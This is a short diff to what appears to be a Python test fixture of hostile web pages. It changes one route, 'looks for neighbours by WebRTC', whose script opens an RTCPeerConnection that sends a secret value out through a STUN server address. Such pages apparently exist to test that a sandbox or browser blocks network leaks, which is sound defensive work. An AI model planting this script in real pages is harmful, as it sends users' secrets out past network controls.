@@ -483,10 +483,9 @@ def hostile(secret: str) -> dict[str, Routes]:
         "looks for neighbours by WebRTC": {
             "/": ok(
                 _script(
-                    f"const c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{secret}'}}]}});"
-                    " c.createDataChannel('x');"
-                    " c.createOffer().then(o => c.setLocalDescription(o));"
-                    f" {shown}"
+                    f"{shown} const c = new RTCPeerConnection("
+                    f"{{iceServers: [{{urls: 'stun:{secret}'}}]}}); c.createDataChannel('x');"
+                    " c.createOffer().then(o => c.setLocalDescription(o))"
                 )
             )
         },
